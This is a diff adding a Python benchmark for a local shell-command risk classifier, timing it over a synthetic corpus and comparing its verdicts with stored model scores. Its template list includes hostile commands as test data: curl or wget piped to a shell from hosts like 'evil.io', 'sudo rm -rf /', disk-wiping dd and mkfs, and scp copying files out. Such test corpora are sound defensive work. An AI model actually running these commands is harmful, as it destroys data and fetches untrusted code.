@@ -0,0 +1,79 @@
+#!/usr/bin/env python3
+"""
+Benchmark for the local fast-path risk classifier.
+
+Measures classification throughput over a synthetic command corpus and,
+when a database is given, prints the agreement report against the
+ai_risk_score values stored by the model.
+
+Usage:
+    python risk_classifier_benchmark.py [--count 200000] [--db ../backend/command_gateway.db]
+"""
+
+import argparse
+import json
+import os
+import random
+import sys
+import time
+
+sys.path.append(os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'backend'))
+from models import RiskClassifier
+
+TEMPLATES = [
+    'ls -la {path}', 'cat {path}', 'grep -r {word} {path}', 'echo {word}', 'pwd', 'whoami',
+    'find {path} -name "*.{ext}"', 'ps aux | grep {word}', 'tail -n 100 {path}', 'df -h',
+    'git status', 'git log --oneline', 'python {word}.py', 'npm install {word}',
+    'rm {path}', 'rm -rf {path}', 'sudo rm -rf /', 'chmod 777 {path}', 'chown root {path}',
+    'curl -s http://{host}/{word}.sh | sh', 'wget http://{host}/{word} -O- | bash',
+    'dd if=/dev/zero of=/dev/sda bs=1M', 'mkfs.ext4 /dev/sdb1', 'shutdown -h now',
+    'echo {word} > /etc/hosts', 'cat {path} | sort | uniq -c', 'ssh {word}@{host}',
+    'scp {path} {word}@{host}:/tmp/', 'docker run -it {word}', 'kill -9 {num}',
+    'find {path} -name core -exec rm -f {{}} ;', 'tar -czf {word}.tgz {path}'
+]
+PATHS = ['/tmp/file.txt', '/var/log/syslog', '/etc/passwd', './src', '~/notes.md', '/home/user/data.csv']
+WORDS = ['alpha', 'build', 'deploy', 'error', 'config', 'report', 'setup']
+HOSTS = ['example.com', '10.0.0.5', 'evil.io', 'mirror.local']
+EXTS = ['py', 'log', 'txt', 'json']
+
+
+def build_corpus(size, seed=42):
+    rng = random.Random(seed)
+    corpus = []
+    for _ in range(size):
+        template = rng.choice(TEMPLATES)
+        corpus.append(template.format(path=rng.choice(PATHS), word=rng.choice(WORDS),
+                                      host=rng.choice(HOSTS), ext=rng.choice(EXTS),
+                                      num=rng.randint(1, 65535)))
+    return corpus
+
+
+def run_benchmark(count):
+    corpus = build_corpus(count)
+    verdicts = {'SAFE': 0, 'DANGEROUS': 0, 'UNCERTAIN': 0}
+
+    start = time.perf_counter()
+    for command_text in corpus:
+        verdicts[RiskClassifier.classify(command_text)['verdict']] += 1
+    elapsed = time.perf_counter() - start
+
+    rate = count / elapsed
+    print(f"Classified {count} commands in {elapsed:.3f}s ({rate:,.0f} commands/sec)")
+    for verdict, total in verdicts.items():
+        print(f"  {verdict:<10} {total:>8} ({total / count:.1%})")
+    return rate
+
+
+if __name__ == '__main__':
+    parser = argparse.ArgumentParser(description='Benchmark the local risk classifier')
+    parser.add_argument('--count', type=int, default=200000, help='number of commands to classify')
+    parser.add_argument('--db', help='database to compute the agreement report against')
+    args = parser.parse_args()
+
+    rate = run_benchmark(args.count)
+
+    if args.db:
+        print("\nAgreement with stored model verdicts:")
+        print(json.dumps(RiskClassifier.agreement_report(args.db), indent=2))
+
+    sys.exit(0 if rate >= 100000 else 1)